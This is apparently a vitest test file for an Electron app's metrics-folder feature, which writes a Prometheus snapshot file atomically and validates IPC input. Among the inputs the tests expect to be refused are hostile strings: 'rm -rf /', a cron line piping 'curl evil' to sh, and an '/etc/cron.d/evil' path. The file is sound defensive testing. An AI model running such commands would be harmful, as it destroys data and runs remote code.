import path from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { APP_ENTRY_URL } from '../shared/app-origin';
import {
  isMetricsSnapshotText,
  MAX_METRICS_SNAPSHOT_CHARS,
  METRICS_SNAPSHOT_FILE_NAME,
} from '../shared/metrics-folder';
import { ok, type Result } from '../shared/result';
import { createHandlers } from './ipc/handlers';
import { createSavedFiles } from './ipc/saved-files';
import { registerHandlers, type IpcMainLike } from './ipc/validated-ipc';
import {
  createMetricsFolder,
  FOLDER_DIALOG,
  type FolderDialog,
  type MetricsFolderFs,
} from './metrics-folder';

const SETTINGS = path.join(path.sep, 'profile', 'metrics-folder.json');
const CHOSEN = path.join(path.sep, 'srv', 'node-exporter');
const TARGET = path.join(CHOSEN, METRICS_SNAPSHOT_FILE_NAME);
const SNAPSHOT =
  '# HELP mttr_studio_drills_completed_total Drills completed.\n# TYPE mttr_studio_drills_completed_total counter\nmttr_studio_drills_completed_total{source="drill",team="Night \\"owls\\"\tA"} 3\n';

type Failures = Partial<Record<keyof MetricsFolderFs, NodeJS.ErrnoException>>;

/** An in-memory file system that records every call and fails the operations it is told to. */
function fakeFs(files: Record<string, string> = {}, failures: Failures = {}) {
  const disk = new Map(Object.entries(files));
  const calls: string[] = [];
  const fail = (op: keyof MetricsFolderFs) => {
    const error = failures[op];
    if (error !== undefined) throw error;
  };
  const fs: MetricsFolderFs = {
    readFile: (file) => {
      calls.push(`read ${file}`);
      const content = disk.get(file);
      if (content === undefined) return Promise.reject(errno('ENOENT'));
      return Promise.resolve(content);
    },
    writeFile: async (file, content) => {
      calls.push(`write ${file}`);
      fail('writeFile');
      disk.set(file, content);
      await Promise.resolve();
    },
    rename: async (from, to) => {
      calls.push(`rename ${from} -> ${to}`);
      fail('rename');
      const content = disk.get(from);
      if (content === undefined) throw errno('ENOENT');
      disk.delete(from);
      disk.set(to, content);
      await Promise.resolve();
    },
    remove: async (file) => {
      calls.push(`remove ${file}`);
      fail('remove');
      disk.delete(file);
      await Promise.resolve();
    },
  };
  return { fs, disk, calls };
}

function errno(code: string): NodeJS.ErrnoException {
  return Object.assign(new Error(code), { code });
}

function dialogAnswering(...answers: (string | null)[]) {
  return vi.fn<FolderDialog>(() => {
    const answer = answers.shift() ?? null;
    return Promise.resolve(
      answer === null
        ? { canceled: true, filePaths: [] }
        : { canceled: false, filePaths: [answer] },
    );
  });
}

function setUp(
  files: Record<string, string> = {},
  failures: Failures = {},
  answers: (string | null)[] = [CHOSEN],
) {
  const fake = fakeFs(files, failures);
  const showFolderDialog = dialogAnswering(...answers);
  const handlers = createMetricsFolder({
    settingsFile: SETTINGS,
    fs: fake.fs,
    showFolderDialog,
    pid: 42,
  });
  return { ...fake, handlers, showFolderDialog };
}

const value = <T>(result: Result<T>): T => {
  if (!result.ok) throw new Error(result.message);
  return result.value;
};

describe('the kept-up-to-date metrics folder', () => {
  it('is off by default: nothing is written until a folder is chosen', async () => {
    const { handlers, disk, calls } = setUp();
    expect(value(await handlers['metrics:get-folder']())).toEqual({ folder: null });
    expect(value(await handlers['metrics:write-snapshot'](SNAPSHOT))).toEqual({ written: false });
    expect([...disk.keys()]).toEqual([]);
    expect(calls.filter((call) => !call.startsWith('read'))).toEqual([]);
  });

  it('remembers the folder chosen in the dialog, and writes the snapshot only there', async () => {
    const { handlers, disk, showFolderDialog } = setUp();
    expect(value(await handlers['metrics:choose-folder']())).toEqual({
      folder: CHOSEN,
      chosen: true,
    });
    expect(showFolderDialog).toHaveBeenCalledWith(FOLDER_DIALOG);
    expect(JSON.parse(disk.get(SETTINGS) ?? '')).toEqual({ folder: CHOSEN });
    expect(value(await handlers['metrics:write-snapshot'](SNAPSHOT))).toEqual({ written: true });
    expect(disk.get(TARGET)).toBe(SNAPSHOT);
    expect([...disk.keys()].sort()).toEqual([SETTINGS, TARGET].sort());
  });

  it('writes to a hidden temporary name in the same folder, then renames it over the snapshot', async () => {
    const { handlers, calls } = setUp({ [SETTINGS]: JSON.stringify({ folder: CHOSEN }) });
    await handlers['metrics:write-snapshot'](SNAPSHOT);
    const temporary = path.join(CHOSEN, `.${METRICS_SNAPSHOT_FILE_NAME}.42.tmp`);
    expect(calls.filter((call) => !call.startsWith('read'))).toEqual([
      `write ${temporary}`,
      `rename ${temporary} -> ${TARGET}`,
    ]);
    // The textfile collector reads *.prom only: the temporary name is never one.
    expect(temporary.endsWith('.prom')).toBe(false);
  });

  it('keeps the choice between runs, and a damaged or relative remembered folder means off', async () => {
    expect(
      value(
        await setUp({ [SETTINGS]: JSON.stringify({ folder: CHOSEN }) }).handlers[
          'metrics:get-folder'
        ](),
      ),
    ).toEqual({ folder: CHOSEN });
    for (const damaged of [
      '{',
      '{"folder": "relative/dir"}',
      '{"folder": 3}',
      '[]',
      '{"folder":"/a","x":1}',
    ]) {
      const { handlers, disk } = setUp({ [SETTINGS]: damaged });
      expect(value(await handlers['metrics:get-folder']()), damaged).toEqual({ folder: null });
      expect(value(await handlers['metrics:write-snapshot'](SNAPSHOT))).toEqual({
        written: false,
      });
      expect(disk.size).toBe(1);
    }
  });

  it('a cancelled dialog changes nothing', async () => {
    const { handlers, disk } = setUp({ [SETTINGS]: JSON.stringify({ folder: CHOSEN }) }, {}, [
      null,
    ]);
    expect(value(await handlers['metrics:choose-folder']())).toEqual({
      folder: CHOSEN,
      chosen: false,
    });
    expect(JSON.parse(disk.get(SETTINGS) ?? '')).toEqual({ folder: CHOSEN });
  });

  it('stops: forgets the folder and writes no more, leaving the last snapshot where it is', async () => {
    const { handlers, disk } = setUp({ [SETTINGS]: JSON.stringify({ folder: CHOSEN }) });
    await handlers['metrics:write-snapshot'](SNAPSHOT);
    expect(value(await handlers['metrics:stop-folder']())).toEqual({ folder: null });
    expect(disk.has(SETTINGS)).toBe(false);
    expect(
      value(await handlers['metrics:write-snapshot'](`${SNAPSHOT}# HELP mttr_studio_x y\n`)),
    ).toEqual({
      written: false,
    });
    expect(disk.get(TARGET)).toBe(SNAPSHOT);
  });

  it('says why a write failed, leaves no temporary file and keeps the previous snapshot', async () => {
    const { handlers, disk } = setUp(
      { [SETTINGS]: JSON.stringify({ folder: CHOSEN }), [TARGET]: 'previous\n' },
      { rename: errno('EACCES') },
    );
    const result = await handlers['metrics:write-snapshot'](SNAPSHOT);
    expect(result).toEqual({
      ok: false,
      code: 'io-error',
      message:
        'The metrics snapshot could not be written: you do not have permission to write there. Choose the folder again, or stop keeping it up to date.',
    });
    expect(disk.get(TARGET)).toBe('previous\n');
    expect([...disk.keys()].sort()).toEqual([SETTINGS, TARGET].sort());
    const gone = setUp(
      { [SETTINGS]: JSON.stringify({ folder: CHOSEN }) },
      { writeFile: errno('ENOENT') },
    );
    const missing = await gone.handlers['metrics:write-snapshot'](SNAPSHOT);
    expect(missing.ok ? '' : missing.message).toContain('the folder no longer exists');
  });

  it('a choice that cannot be remembered is an error, and the folder stays as it was', async () => {
    const { handlers } = setUp({}, { writeFile: errno('EROFS') });
    const result = await handlers['metrics:choose-folder']();
    expect(result.ok).toBe(false);
    expect(value(await handlers['metrics:get-folder']())).toEqual({ folder: null });
  });

  it('writes one snapshot after another, so an older one never lands after a newer one', async () => {
    const { handlers, disk, fs } = setUp({ [SETTINGS]: JSON.stringify({ folder: CHOSEN }) });
    const order: string[] = [];
    const slowWrite = fs.writeFile;
    let first = true;
    fs.writeFile = async (file, content) => {
      if (first) {
        first = false;
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      order.push(content);
      await slowWrite(file, content);
    };
    const older = `${SNAPSHOT}# HELP mttr_studio_a older\n`;
    const newer = `${SNAPSHOT}# HELP mttr_studio_a newer\n`;
    await Promise.all([
      handlers['metrics:write-snapshot'](older),
      handlers['metrics:write-snapshot'](newer),
    ]);
    expect(order).toEqual([older, newer]);
    expect(disk.get(TARGET)).toBe(newer);
  });
});

describe('the snapshot text main accepts', () => {
  it('is the app’s own exposition', () => {
    expect(isMetricsSnapshotText(SNAPSHOT)).toBe(true);
    expect(isMetricsSnapshotText('# HELP mttr_studio_a b\n')).toBe(true);
  });

  it.each([
    ['empty', ''],
    ['no final newline', SNAPSHOT.trimEnd()],
    ['another metric', 'node_cpu_seconds_total 3\n'],
    ['a shell script', '#!/bin/sh\nrm -rf /\n'],
    ['a timestamped sample', 'mttr_studio_a 1 1700000000\n'],
    ['a NUL byte', `${SNAPSHOT.slice(0, -1)}\u0000\n`],
    ['a carriage return', SNAPSHOT.replaceAll('\n', '\r\n')],
    ['a blank line', `${SNAPSHOT}\n`],
    ['OpenMetrics’ end marker', `${SNAPSHOT}# EOF\n`],
  ])('refuses %s', (_what, text) => {
    expect(isMetricsSnapshotText(text)).toBe(false);
  });
});

describe('metrics:write-snapshot through the validated IPC wrapper', () => {
  type Listener = Parameters<IpcMainLike['handle']>[1];

  function wired() {
    const listeners = new Map<string, Listener>();
    const fixture = setUp({ [SETTINGS]: JSON.stringify({ folder: CHOSEN }) });
    registerHandlers(
      { handle: (channel, listener) => listeners.set(channel, listener) },
      {
        ...createHandlers({
          getName: () => 'MTTR Studio',
          getVersion: () => '1',
          platform: 'linux',
          openExternal: () => Promise.resolve(),
          showSaveDialog: () => Promise.resolve({ canceled: true }),
          writeFile: () => Promise.resolve(),
          exportReportPdf: () => Promise.resolve(ok({ outcome: 'cancelled' as const })),
          openPresenter: () => ok({ placement: 'same-display' as const }),
          keepDisplayAwake: () => undefined,
          savedFiles: createSavedFiles(() => 'aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee'),
          showItemInFolder: () => undefined,
          openBackups: () =>
            Promise.resolve(ok({ cancelled: true, folderName: null, files: [], skipped: 0 })),
        }),
        ...fixture.handlers,
      },
      () => undefined,
    );
    const invoke = (channel: string, ...args: unknown[]) => {
      const listener = listeners.get(channel);
      if (listener === undefined) throw new Error(`${channel} is not registered`);
      return listener(
        { senderFrame: { url: `${APP_ENTRY_URL}#/settings`, parent: null } },
        ...args,
      );
    };
    return { ...fixture, invoke };
  }

  it('writes a snapshot the app made', async () => {
    const { invoke, disk } = wired();
    expect(await invoke('metrics:write-snapshot', SNAPSHOT)).toEqual(ok({ written: true }));
    expect(disk.get(TARGET)).toBe(SNAPSHOT);
  });

  it.each([
    ['a path beside the text', [SNAPSHOT, '/etc/cron.d/evil']],
    ['an object with a folder', [{ folder: '/etc', content: SNAPSHOT }]],
    ['not a snapshot', ['* * * * * root curl evil | sh\n']],
    [
      'too large',
      [`${SNAPSHOT}${'# HELP mttr_studio_a b\n'.repeat(MAX_METRICS_SNAPSHOT_CHARS / 23 + 1)}`],
    ],
    ['nothing', []],
  ])('refuses %s, writing nothing', async (_what, args) => {
    const { invoke, calls } = wired();
    const result = await invoke('metrics:write-snapshot', ...args);
    expect(result).toMatchObject({ ok: false, code: 'invalid-arguments' });
    expect(calls.filter((call) => !call.startsWith('read'))).toEqual([]);
  });

  it('takes no arguments to choose or stop: the renderer never names a folder', async () => {
    const { invoke, showFolderDialog } = wired();
    expect(await invoke('metrics:choose-folder', '/etc')).toMatchObject({
      ok: false,
      code: 'invalid-arguments',
    });
    expect(showFolderDialog).not.toHaveBeenCalled();
    expect(await invoke('metrics:stop-folder', { folder: '/' })).toMatchObject({ ok: false });
  });
});
